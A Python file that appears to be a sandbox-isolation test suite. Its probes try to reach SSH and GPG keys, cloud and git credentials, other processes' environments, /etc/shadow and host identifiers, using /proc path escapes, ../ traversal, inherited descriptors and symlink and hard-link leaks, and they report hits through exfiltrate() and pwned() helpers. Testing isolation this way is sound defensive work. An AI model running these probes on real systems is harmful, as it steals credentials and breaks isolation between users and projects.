"""What must stay unseen: keys, environment, other projects, other processes, facts of the host."""

import os
import socket
import sys

from support import exfiltrate, pwned, run_named


def _take(*paths):
    for path in paths:
        try:
            if os.path.isdir(path):
                for name in os.listdir(path):
                    _take(os.path.join(path, name))
            else:
                with open(path, "rb") as file:
                    exfiltrate(file.read())
        except OSError:
            pass


def read_ssh_keys(arena):
    """~/.ssh by every name of home."""
    import pwd

    homes = {arena["home"], os.path.expanduser("~"), "/root", *(entry.pw_dir for entry in pwd.getpwall())}
    for home in homes:
        _take(f"{home}/.ssh", f"{home}/.gnupg")


def read_cloud_credentials(arena):
    """What command line tools of clouds and hubs keep."""
    for name in (".aws", ".config", ".kube", ".docker", ".netrc", ".cache/huggingface", ".git-credentials", ".kaggle"):
        _take(f"{arena['home']}/{name}", f"/root/{name}")


def read_another_project(arena):
    """A neighbour of the program."""
    _take(arena["project"], *(os.path.join(arena["project"], name) for name in ("secret.py", ".env")))


def read_the_environment(arena):
    """Of this process, its parents and everybody."""
    exfiltrate(repr(dict(os.environ)))
    for name in os.listdir("/proc"):
        if name.isdigit():
            _take(f"/proc/{name}/environ", f"/proc/{name}/cmdline")
    _take(f"/proc/{arena['victim']}/environ", f"/proc/{arena['judge']}/environ")


def climb_through_proc(arena):
    """/proc/N/root and /proc/N/cwd lead to other views of the disk."""
    for pid in ("1", "self", str(os.getppid()), str(arena["victim"]), str(arena["judge"])):
        for way in ("root", "cwd"):
            _take(f"/proc/{pid}/{way}{arena['home']}/.ssh/id_ed25519", f"/proc/{pid}/{way}{arena['project']}/secret.py")


def climb_by_dots(arena):
    """Relative paths, long ones, and descriptors of directories."""
    up = "../" * 40
    _take(f"{up}{arena['home']}/.ssh/id_ed25519", f"/box/{up}{arena['home']}/.ssh/id_ed25519")
    try:
        root = os.open("/", os.O_RDONLY)
        _take(f"/proc/self/fd/{root}/{arena['home']}/.ssh/id_ed25519")
    except OSError:
        pass


def search_inherited_descriptors(arena):
    """What the caller forgot to close."""
    for name in os.listdir("/proc/self/fd"):
        descriptor = int(name)
        if descriptor <= 2:
            continue
        try:
            goal = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if goal.startswith("/proc/"):
            continue
        pwned(f"descriptor {descriptor} leads to {goal}")
        try:
            exfiltrate(os.pread(descriptor, 4096, 0))
        except OSError:
            pass


def leak_by_a_symbolic_link(arena):
    """Leave a link where the collector brings files back from."""
    for index, path in enumerate((f"{arena['home']}/.ssh/id_ed25519", f"{arena['project']}/secret.py", "/etc/shadow")):
        os.symlink(path, f"result-{index}.txt")
    os.symlink(arena["home"], "results")
    os.symlink("/", "everything")


def leak_by_a_hard_link(arena):
    """A second name for a file that is not ours."""
    for path in (f"{arena['home']}/.ssh/id_ed25519", f"{arena['project']}/secret.py", arena["program"]):
        try:
            os.link(path, "linked-" + os.path.basename(path))
            pwned(f"linked {path}")
        except OSError:
            pass


def read_system_secrets(arena):
    """Password hashes, host keys, logs, the boot's command line."""
    _take("/etc/shadow", "/etc/ssh", "/etc/sudoers", "/var/log", "/boot", "/etc/kubernetes", "/run/secrets")
    for path in ("/etc/shadow", "/var/log/dpkg.log", "/etc/sudoers"):
        if os.path.exists(path):
            pwned(f"sees {path}")


def find_out_the_host(arena):
    """Its name, identity, and what started it."""
    for path in ("/etc/hostname", "/etc/machine-id", "/proc/sys/kernel/random/boot_id", "/proc/cmdline", "/etc/hosts"):
        _take(path)
    names = {socket.gethostname(), os.uname().nodename}
    if arena["hostname"] in names:
        pwned("knows the host's name")
    with open("/proc/self/mountinfo") as file:
        if arena["home"] in file.read():
            pwned("sees the home directory among the mounts")


def list_the_disk(arena):
    """Whose directories are there?"""
    for path in ("/home", "/root", "/mnt", "/media", "/srv", "/opt", "/var", os.path.dirname(arena["home"])):
        try:
            names = os.listdir(path)
        except OSError:
            continue
        seen = [name for name in names if name not in arena["visible"]]
        if path in ("/home", "/mnt", "/srv", "/var") and seen:
            pwned(f"{path}: {seen[:5]}")


def read_leftovers_of_others(arena):
    """What the host or an earlier run left in shared places."""
    # An interpreter that lies in such a place is shown there, and nothing beside it.
    interpreters = [*{sys.prefix, sys.base_prefix, os.path.dirname(sys.executable)}]
    for path in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock"):
        try:
            names = [name for name in os.listdir(path) if not name.startswith(("dlcoder-", "arena-"))]
        except OSError:
            continue
        foreign = [name for name in names if not any(p.startswith(f"{path}/{name}/") for p in interpreters)]
        if foreign:
            pwned(f"{path} holds {foreign[:5]}")
    for name in ("left-in-tmp", "left-in-shm"):
        _take(f"/tmp/{name}", f"/dev/shm/{name}")


if __name__ == "__main__":
    run_named(globals())
